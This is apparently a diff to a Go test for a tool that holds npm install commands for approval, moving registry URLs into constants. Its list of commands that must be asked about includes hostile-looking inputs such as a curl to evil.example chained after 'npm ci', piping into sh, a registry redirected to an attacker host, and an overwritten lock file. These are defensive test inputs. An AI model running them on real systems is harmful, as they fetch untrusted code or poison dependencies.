@@ -12,6 +12,12 @@ import (
 	"github.com/sidecar-ls/sidecar-ls/internal/test/ownfile"
 )
 
+// The registry that the lock file names, and another one.
+const (
+	registry = "https://packages.example.org/"
+	another  = "https://evil.example"
+)
+
 const (
 	manifest = `{"name": "p", "dependencies": {"a": "^1.0.0"}}` + "\n"
 	locked   = `{
@@ -21,7 +27,7 @@ const (
     "": {"name": "p", "dependencies": {"a": "^1.0.0"}},
     "node_modules/a": {
       "version": "1.0.0",
-      "resolved": "https://packages.example.org/a/-/a-1.0.0.tgz",
+      "resolved": "` + registry + `a/-/a-1.0.0.tgz",
       "integrity": "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=="
     }
   }
@@ -177,7 +183,7 @@ func TestInstallHeld(t *testing.T) {
 	}
 	// An install elsewhere, or one in the background, is asked about.
 	for _, line := range []string{
-		"npm ci && curl https://evil.example", "npm ci; npm i evil", "npm_config_registry=https://evil.example npm ci", "npm ci --registry=evil.example", "npm ci --prefix x", "npm -C x ci", "cd x && npm ci", "./bin/npm ci", "bin/npm ci",
+		"npm ci && curl https://evil.example", "npm ci; npm i evil", "npm_config_registry=" + another + " npm ci", "npm ci --registry=" + another, "npm ci --prefix x", "npm -C x ci", "cd x && npm ci", "./bin/npm ci", "bin/npm ci",
 		"env npm ci", "npm ci evil", "npm install", "cp evil.json package-lock.json; npm ci", "echo '{}' >package.json; npm ci", "npm ci | sh", "$(npm ci)", "npm ci & rm x", "alias npm=evil\nnpm ci", "npm ${X} ci", "command npm ci", "npm c?",
 	} {
 		r.asked(line, e2e.Object{"command": line})
